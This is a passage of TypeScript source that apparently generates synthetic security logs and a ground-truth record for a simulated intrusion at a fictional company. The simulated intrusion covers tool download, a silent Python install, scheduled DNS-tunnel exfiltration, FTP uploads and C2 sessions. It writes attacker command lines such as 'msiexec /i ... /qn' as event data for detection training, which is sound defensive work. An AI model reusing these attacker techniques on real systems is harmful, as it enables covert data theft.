  at(pdt(D2, 22, 59, 39), () => {
    const r = rng.fork('py-dl');
    const su = svc(tunnelHost);
    const p = spawn(ctx, r, { t: pdt(D2, 22, 59, 39), host: tunnelHost, user: su, image: 'C:\\Windows\\System32\\cscript.exe', cmd: 'cscript  download_py.vbs', parent: procs.get('ps-' + tunnelHost.name) ?? rootProc(tunnelHost, PS_EXE, 'powershell', 4100), cwd: 'C:\\temp\\', lifetimeUs: 50 * US_PER_S,
      net: [{ t: pdt(D2, 22, 59, 41), proto: 'tcp', dst: '151.101.24.223', dstHost: 'www.python.org', dport: 443, portName: 'https', sport: 51234 }] });
    note(p, tunnelHost, pdt(D2, 22, 59, 39), su.sysmonUser, 'tool transfer (python)');
    dnsLookup(ctx, r, { t: pdt(D2, 22, 59, 40), client: tunnelHost.ip, resolver: mercury.ip, qname: 'www.python.org', answers: ['151.101.24.223'], ttl: 3600 });
    // https://www.python.org/ftp/python/2.7.13/python-2.7.13.amd64.msi, fetched by WinHttp (TLS: only the SNI is visible)
    tcpSession(ctx, r, { t: pdt(D2, 22, 59, 41), dur: 9_400_000, src: tunnelHost.ip, dst: '151.101.24.223', dport: 443, bytesToServer: 1_870, bytesToClient: 19_161_088 + 6_200, app: 'ssl', tls: { sni: 'www.python.org', issuer: 'C = US, O = DigiCert Inc, OU = www.digicert.com, CN = DigiCert SHA2 Extended Validation Server CA', subject: 'CN = www.python.org' }, user: `frothly\\${v.serviceAccount}` });
  });
  at(pdt(D2, 23, 50, 36), () => {
    const r = rng.fork('msiexec');
    const su = svc(tunnelHost);
    const p = spawn(ctx, r, { t: pdt(D2, 23, 50, 36), host: tunnelHost, user: su, image: 'C:\\Windows\\System32\\msiexec.exe', cmd: 'msiexec  /i c:\\temp\\download\\python.msi /qn /norestart', parent: procs.get('ps-' + tunnelHost.name) ?? rootProc(tunnelHost, PS_EXE, 'powershell', 4100), lifetimeUs: 14 * US_PER_S });
    note(p, tunnelHost, pdt(D2, 23, 50, 36), su.sysmonUser, 'tool install (python)');
  });
  const tunnelStart = pdt(D2, 23, 50, 54);
  const tunnelEnd = pdt(v.tunnelEndDay, 4, 10, 0);
  const resolverCounts = new Map<string, number>();
  let tunnelQueries = 0;
  const labels: string[] = [];
  let runs = 0;
  let counter = rng.int(9_000, 16_000);
  {
    const r0 = rng.fork('tunnel-sched');
    let t = tunnelStart;
    let k = 0;
    while (t < tunnelEnd) {
      const tt = t; const kk = k++;
      at(tt, () => {
        const r = rng.fork('tunnel' + kk);
        const su = svc(tunnelHost);
        const taskeng = rootProc(tunnelHost, 'C:\\Windows\\System32\\taskeng.exe', 'taskeng.exe {6B6F5E37-1B8C-4D2A-9D68-0F8B7E1B5C21} S-1-5-21-2915380141-3133548025-2733813154-1113:FROTHLY\\service3:Password:MaxPriv', 1964);
        const p = spawn(ctx, r, { t: tt, host: tunnelHost, user: su, image: 'C:\\Python27\\python.exe', cmd: `"C:\\python27\\python.exe"  ${v.tunnelScript}`, parent: taskeng, cwd: 'C:\\temp\\', lifetimeUs: r.int(4, 20) * US_PER_S });
        if (kk < 3) note(p, tunnelHost, tt, su.sysmonUser, 'exfiltration over DNS (first runs)');
        runs++;
        const nq = r.int(v.tunnelPerRun[0], v.tunnelPerRun[1]);
        let q = tt + r.int(300_000, 900_000);
        for (let i = 0; i < nq; i++) {
          while (!counterFits(v.tunnelEncoding, counter)) counter++;
          const label = encodeTunnelLabel(r, v.tunnelEncoding, v.tunnelLabelLen, counter++);
          const resolver = r.weighted(v.tunnelResolvers.map((x) => x.ip), v.tunnelResolvers.map((x) => x.weight));
          dnsLookup(ctx, r, { t: q, client: tunnelHost.ip, resolver, qname: `${label}.${domain}`, answers: [], ttl: 0, rcode: 'NXDomain', user: `frothly\\${v.serviceAccount}` });
          resolverCounts.set(resolver, (resolverCounts.get(resolver) ?? 0) + 1);
          labels.push(label);
          tunnelQueries++;
          q += r.int(80_000, 1_400_000);
        }
      });
      t += Math.round(v.tunnelEveryMin * US_PER_MIN + r0.normal(0, 25) * US_PER_S);
    }
  }

  const finish = (): AttackTruth => {
    const stage = ctx.watchedFlows.get(v.stagingFlowId)!;
    const byCommand: Record<string, { count: number; bytes_in: number; bytes_out: number }> = {};
    for (const k of [...stage.keys()].sort()) byCommand[k] = stage.get(k)!;
    const tot = [...stage.values()].reduce((a, c) => ({ count: a.count + c.count, bytes_in: a.bytes_in + c.bytes_in, bytes_out: a.bytes_out + c.bytes_out }), { count: 0, bytes_in: 0, bytes_out: 0 });
    const times = ctx.flowTimes.get(v.stagingFlowId)!;
    // mark repeated files per transmission (sent in an earlier transmission)
    const sentBefore = new Set<string>();
    for (const tx of transmissions.sort((a, b) => a.n - b.n)) {
      tx.repeated_files = tx.files.filter((f) => sentBefore.has(f));
      for (const f of tx.files) sentBefore.add(f);
    }
    const uploads = transmissions.flatMap((t) => t.files);
    truth.staging = {
      flow_id: v.stagingFlowId, client: btun.ip, client_host: btun.name, server: venus.ip, server_host: venus.name, share: v.stagingShare, user: v.victimUser,
      first: isoMicro(times.first), last: isoMicro(times.last), by_command: byCommand, totals: tot,
      read: byCommand['smb2 read'] ?? null,
      staged_files: files.map((f) => ({ name: f.name, size: f.size })), staged_file_count: files.length,
      reread_files: rereads.map((f) => f.name),
      nights: [{ start: isoMicro(pdt(D1, 21, 21, 4)), end: isoMicro(pdt(D1, 22, 40, 0)), files: night1.length }, { start: isoMicro(pdt(D2, 19, 2, 17)), end: isoMicro(pdt(D2, 22, 26, 0)), files: night2.length + rereads.length }],
    };
    truth.ftp = {
      server: v.ftpServer, domain, account: v.ftpAccount, sessions: ftpSessions.sort((a, b) => String(a.start).localeCompare(String(b.start))), transmissions,
      downloads: { files: v.downloads, hosts: [btun.ip, klag.ip], script: v.downloadScript },
      uploaded_file_events: uploads.length, uploaded_pdf_events: uploads.filter((f) => /\.pdf$/i.test(f)).length, uploaded_distinct_files: new Set(uploads).size,
      credential_file: v.credentialFile, failed_file: v.failedFile, threat_file: v.threatFile,
      denied: deniedTruth, threats, dns_lookups: lookups,
      scripts: { download: v.downloadScript, upload: v.uploadScript, single: v.singleScript },
    };
    truth.dns_tunnel = {
      domain, client: tunnelHost.ip, client_host: tunnelHost.name, script: v.tunnelScript, user: v.serviceAccount, encoding: v.tunnelEncoding, label_length: v.tunnelLabelLen,
      query_count: tunnelQueries, runs, every_minutes: v.tunnelEveryMin, first: isoMicro(tunnelStart), last_run_before: isoMicro(tunnelEnd),
      resolvers: [...resolverCounts.entries()].sort((a, b) => b[1] - a[1]).map(([ip, count]) => ({ ip, count, kind: ip === GOOGLE_DNS ? 'google public resolver' : 'authoritative name server of ' + domain })),
      mean_entropy: labels.reduce((a, l) => a + shannon(l), 0) / Math.max(1, labels.length),
      sample_labels: labels.slice(0, 10), reply_code: 'NXDomain', query_type: 'A',
    };
    truth.c2 = { ip: v.c2, ssl_issuer: v.c2Issuer, sessions: Object.fromEntries([...c2Sessions.entries()].sort()) };
    truth.processes = processes.sort((a, b) => String(a.time).localeCompare(String(b.time)));
    truth.accounts = { victim: v.victimUser, second: v.secondUser, service: v.serviceAccount };
    truth.hosts = { staging_client: btun.name, second_client: klag.name, tunnel_host: tunnelHost.name, compromised: [btun.name, ...lateral.map((h) => h.name)], denied: denied.map((h) => h.name) };
    return truth;
  };
  return { steps: steps.sort((a, b) => a.t - b.t), finish };
}

export function countBy(xs: string[]): Record<string, number> {
  const m: Record<string, number> = {};
  for (const x of xs) m[x] = (m[x] ?? 0) + 1;
  return m;
}

export function shannon(s: string): number {
  const m = new Map<string, number>();
  for (const ch of s) m.set(ch, (m.get(ch) ?? 0) + 1);
  let h = 0;
  for (const c of m.values()) { const p = c / s.length; h -= p * Math.log2(p); }
  return h;
}
